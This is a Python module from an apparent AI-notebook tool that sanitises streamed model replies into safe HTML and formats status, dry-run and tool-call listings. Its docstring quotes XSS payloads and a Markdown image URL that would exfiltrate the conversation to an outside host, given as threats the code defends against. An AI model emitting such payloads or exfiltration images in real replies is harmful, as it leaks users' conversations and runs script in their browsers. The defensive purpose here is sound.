"""Showing things in the cell output: the streaming reply, dry runs, status lines.

Model output is untrusted. :func:`markdown_html` renders Markdown with
markdown-it-py's CommonMark preset and **html disabled**, so raw HTML in a
reply (``<img src=x onerror=...>``, ``<script>``) comes out escaped, as
text; markdown-it also refuses ``javascript:``/``vbscript:``/``data:``
links. Only that HTML (plus the plain text) is handed to the front end,
never the reply as ``text/markdown`` (JupyterLab treats live outputs as
trusted and would render raw HTML inside Markdown).

A Markdown image is fetched by the browser with no click, so a reply
holding ``![ok](https://host/pixel.png?d=<your conversation>)`` would
send the conversation away. Images are therefore only drawn from inline
``data:image/(png|jpeg|gif|webp)`` URLs (nothing leaves the machine); any
other image becomes a link, labelled with its alt text and address, that
loads nothing until clicked.
"""

from __future__ import annotations

import html
import os
import re
import time
from collections.abc import Sequence

from .. import ai
from ..kept import shape_of
from ..models import ModelLike
from ..session import Store, describe, entry_kind

_MD = None
INLINE_IMAGE = re.compile(r"data:image/(?:png|jpeg|gif|webp);", re.IGNORECASE)
GROWTH = 1.1  # a streaming re-render waits until the reply is this much longer ...
COST_FACTOR = 10  # ... and this many times the last render's duration has passed


def markdown_html(text: str) -> str:
    """Return safe HTML for Markdown ``text``: raw HTML is escaped, bad link schemes
    dropped, and images that would be fetched from anywhere become links (see the module docs).

    Cost: one markdown-it parse, O(len(text)).
    """
    global _MD
    if _MD is None:
        from markdown_it import MarkdownIt

        _MD = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable(["table", "strikethrough"])
        _MD.add_render_rule("image", _image)
    return _MD.render(text)


def _image(self, tokens, idx, options, env) -> str:
    """Render an image token: drawn when inline data, else a link that fetches nothing by itself."""
    token = tokens[idx]
    src = token.attrGet("src") or ""
    if INLINE_IMAGE.match(src):
        return self.image(tokens, idx, options, env)
    alt = self.renderInlineAsText(token.children or [], options, env) or "image"
    where = html.escape(src)
    return (
        f'<a class="durable-remote-image" href="{where}" rel="noopener noreferrer nofollow" '
        f'title="image not loaded: {where}">[image: {html.escape(alt)}] ({where})</a>'
    )


def reply_bundle(text: str, note: str = "", thinking: Sequence[ai.Thinking] = (), title: str = "") -> dict[str, str]:
    """Return the MIME bundle of a reply: ``text/plain`` and sanitised ``text/html``.

    ``title`` (a fan-out's branch name) heads it, escaped. ``note`` (e.g.
    "interrupted") is appended in italics, escaped. The
    reply's ``thinking`` comes first, collapsed: in HTML a closed
    ``<details>`` per block (its text escaped), in plain text one
    ``[thinking · N chars]`` line per block.
    """
    body = "".join(_thinking_html(b) for b in thinking) + markdown_html(text)
    if note:
        body += f"<p><em>{html.escape(note)}</em></p>"
    plain = "".join(f"[thinking · {_thinking_size(b)}]\n" for b in thinking) + text + (f"\n[{note}]" if note else "")
    if title:
        body = f'<div class="durable-variant"><strong>{html.escape(title)}</strong></div>' + body
        plain = f"── {title} ──\n" + plain
    return {"text/plain": plain, "text/html": f'<div class="durable-reply">{body}</div>'}


def _thinking_size(b: ai.Thinking) -> str:
    return f"{len(b.text)} chars" if b.text else "redacted by the provider" if b.redacted else "signature only"


def _thinking_html(b: ai.Thinking) -> str:
    text = f'<div style="white-space: pre-wrap">{html.escape(b.text)}</div>' if b.text else ""
    return f'<details class="durable-thinking"><summary>thinking · {_thinking_size(b)}</summary>{text}</details>'


def thinking_of(m: ai.Message | None) -> list[ai.Thinking]:
    """Return the :class:`~durable_nb.ai.Thinking` blocks of a message (``[]`` for ``None``)."""
    return [b for b in m.content if isinstance(b, ai.Thinking)] if m is not None else []


class ReplyView:
    """A display that shows the reply as it streams, re-rendering it only now and then.

    In a kernel it updates one display handle in place. A re-render of the
    reply so far waits until (a) ``throttle`` seconds and :data:`COST_FACTOR`
    times the last render's own duration (measured after it) have passed
    since that render ended, and (b) the reply has grown by :data:`GROWTH`
    since. So rendering takes at most about a tenth of the streaming time,
    and a reply of n characters is rendered O(log n) times while it streams
    (O(n) work in all), then once in full by :meth:`final`. ``renders``
    counts the renders. Outside a kernel (terminal IPython) it prints the
    deltas as they come instead, since there is no handle to update.
    """

    def __init__(self, in_kernel: bool, throttle: float = 0.05, title: str = "") -> None:
        self.in_kernel = in_kernel
        self.throttle = throttle
        self.title = title  # heads the reply (a fan-out's branch name); may change while it streams
        self.renders = 0
        self._handle = None
        self._next = 0.0  # no re-render before this time ...
        self._shown = 0  # ... nor before the reply is GROWTH times this long
        self._printed = 0
        if in_kernel:
            markdown_html("")  # build the parser now, so the first render's cost is the render's own

    def update(self, text: str) -> None:
        """Show ``text`` (the reply so far) if the throttle allows."""
        if not self.in_kernel:
            print(text[self._printed :], end="", flush=True)
            self._printed = len(text)
            return
        if self._handle is not None and (len(text) < self._shown * GROWTH or time.monotonic() < self._next):
            return
        start = time.monotonic()
        self._show(reply_bundle(text, title=self.title))
        end = time.monotonic()
        self._shown = len(text)
        self._next = end + max(self.throttle, COST_FACTOR * (end - start))

    def final(self, text: str, note: str = "", thinking: Sequence[ai.Thinking] = ()) -> None:
        """Show the complete (or, with ``note``, partial) reply, its ``thinking`` collapsed before it."""
        if not self.in_kernel:
            head = f"── {self.title} ──\n" if self.title and not self._printed else ""
            print(head + text[self._printed :] + (f"\n[{note}]" if note else ""), flush=True)
            self._printed = len(text)
            return
        if not text and not note and not thinking and not self.title:
            return
        self._show(reply_bundle(text, note, thinking, self.title))

    def _show(self, bundle: dict[str, str]) -> None:
        from IPython.display import display

        self.renders += 1
        if self._handle is None:
            self._handle = display(bundle, raw=True, display_id=True)
        else:
            self._handle.update(bundle, raw=True)


def _indent(text: str, pad: str) -> str:
    return text.replace("\n", "\n" + pad)


def message_line(m: ai.Message) -> str:
    """Return a message as ``role [meta · cell:x]: text`` with every block shown in full."""
    return f"{m.role}{ai.badge(m)}: " + "\n".join(ai.describe_block(b) for b in m.content)


def dry_run_text(messages: Sequence[ai.Message], new: Sequence[ai.Message], model: str) -> str:
    """Return the dry-run listing: every message the request would send, numbered.

    Messages in ``new`` (the staged entries and the cell, compared by
    identity) are marked ``← new``; injected ones carry their badge.
    """
    fresh = {id(m) for m in new}
    n = len(messages)
    lines = [f"dry run: {n} message{'s' if n != 1 else ''} would be sent to {model} (nothing called, nothing written)"]
    for i, m in enumerate(messages, 1):
        head = f"{i:>3}. "
        mark = "  ← new" if id(m) in fresh else ""
        lines.append(head + _indent(message_line(m), " " * len(head)) + mark)
    return "\n".join(lines)


def entry_label(e) -> str:
    """Return an entry's kind for listings: ``user``, ``assistant``, ``user [meta]``, ``compaction``, ``note``
    (:func:`~durable_nb.session.entry_kind`, with an injected message's role in front)."""
    from ..session import MessageEntry, entry_kind

    kind = entry_kind(e)
    if isinstance(e, MessageEntry) and e.message.injected is not None:
        return f"{e.message.role} [{kind}]"
    return kind


def entry_text(e) -> str:
    """Return the text a listing shows for an entry: its kind's own text (a note's body,
    :func:`durable_nb.kinds.text`), else :func:`~durable_nb.session.display_text`."""
    from ..kinds import text
    from ..session import display_text

    own = text(e)
    return own if own is not None else display_text(e)


def plural(n: int, one: str, many: str) -> str:
    """Return ``"1 entry"`` / ``"3 entries"``."""
    return f"{n} {one if n == 1 else many}"


def short(text: str, width: int = 60) -> str:
    """Return ``text`` on one line, cut to ``width`` characters with an ellipsis."""
    one = " ".join(text.split())
    return one if len(one) <= width else one[: width - 1] + "…"


def tool_line(call: ai.ToolCall, result: ai.Message, duration_ms: float) -> str:
    """Return one line for a tool call that ran: ``⚙ add({"a": 2}) → 5 · 0.1 ms`` (``→ error: …`` when it failed).

    The result shows its text blocks only (a reminder is for the model). Long parts are cut.
    """
    import json

    args = json.dumps(call.arguments, ensure_ascii=False, default=str)
    out = ("error: " if result.is_error else "") + result.text()
    return f"⚙ {call.name}({short(args, 80)}) → {short(out, 100)} · {_duration(duration_ms)}"


def tools_text(tools: Sequence) -> str:
    """Return the ``%durable tools`` listing: each tool's name, description and JSON Schema."""
    import json

    if not tools:
        return "no tools: %durable tools add NAME adds a function of the notebook"
    lines = [f"{plural(len(tools), 'tool', 'tools')} (the model may call them; a turn runs the calls):"]
    for t in tools:
        lines.append(f"  {t.name}" + (f" — {short(t.description, 90)}" if t.description else ""))
        lines.append(f"      {json.dumps(t.parameters, ensure_ascii=False)}")
    return "\n".join(lines)


def footer(model: str, replies: Sequence[ai.Message], elapsed_s: float) -> str:
    """Return ``model · 120 in / 35 out tokens · $0.00012 · 1.2 s`` for a run's replies (summed over its
    model calls; :func:`~durable_nb.cost.format_tally`).

    Tokens are left out when the model reported none; a cost the price table cannot tell reads
    ``cost unknown``; ``N model calls`` is added when there were several.
    """
    from ..cost import format_tally, tally

    parts = [model, format_tally(tally(replies))]
    if len(replies) > 1:
        parts.append(f"{len(replies)} model calls")
    parts.append(_duration(elapsed_s * 1000))
    return " · ".join(parts)


def _duration(ms: float) -> str:
    return f"{ms:.1f} ms" if ms < 1000 else f"{ms / 1000:.2f} s"


def model_label(spec: ModelLike) -> str:
    """Return how the status names a model spec, without building it."""
    if spec is None or spec == "":
        return os.environ.get("DURABLE_NB_MODEL") or "offline"
    if isinstance(spec, str):
        return spec
    return str(getattr(spec, "name", None) or getattr(spec, "__name__", None) or type(spec).__name__)


def labels_text(named: dict[str, str]) -> str:
    """Return labels as the status lists them: ``v1 → 3fa9c2d1e0b4, draft → 77aa01c2d3e4`` (``""`` for none)."""
    return ", ".join(f"{n} → {t}" for n, t in named.items())


def store_place(store: Store, session_id: str = "") -> str:
    """Return where ``store`` (with ``session_id``: that session) is kept as notebook output names it:
    :func:`~durable_nb.session.describe`, but a path inside the kernel's working folder (the notebook's
    folder) relative to it (``.durable/nb-1.jsonl``), so a saved notebook holds no absolute path of
    the machine it ran on. O(1)."""
    shown = describe(store, session_id)
    if not os.path.isabs(shown):
        return shown
    try:
        rel = os.path.relpath(shown)
    except ValueError:  # another drive (Windows)
        return shown
    return shown if rel == ".." or rel.startswith(".." + os.sep) else rel


def staged_text(staged: Sequence) -> str:
    """Return the staged entries as the status shows them (``staged   none`` when there are none)."""
    if not staged:
        return "staged   none"
    rows = [f"staged   {len(staged)} for the next turn, in this order:"]
    for i, s in enumerate(staged, 1):
        m = s.message
        kind = m.injected.value if m.injected is not None else "?"
        shown = ai.shown_origin(m.origin)
        rows.append(f"  {i}. [{kind}{' · ' + shown if shown else ''}] {short(m.text())!r}")
    return "\n".join(rows)


def counts(entries: Sequence) -> dict[str, int]:
    """Return entry counts by kind: ``user``, ``assistant``, ``tool_result``, ``meta``,
    ``ephemeral``, ``compaction`` and each custom kind (zero counts left out), in the order each kind
    first appears. O(n): at C speed for a log of message entries none injected (the common long log:
    :func:`~durable_nb.kept.shape_of`'s ``kinds``, which ``%durable status`` reads from the agent's
    kept :func:`~durable_nb.kept.log_shape`), else :func:`~durable_nb.session.entry_kind` of each."""
    kinds = shape_of(entries).kinds
    if kinds is not None:
        return kinds
    out: dict[str, int] = {}
    for e in entries:
        k = entry_kind(e)
        out[k] = out.get(k, 0) + 1
    return out
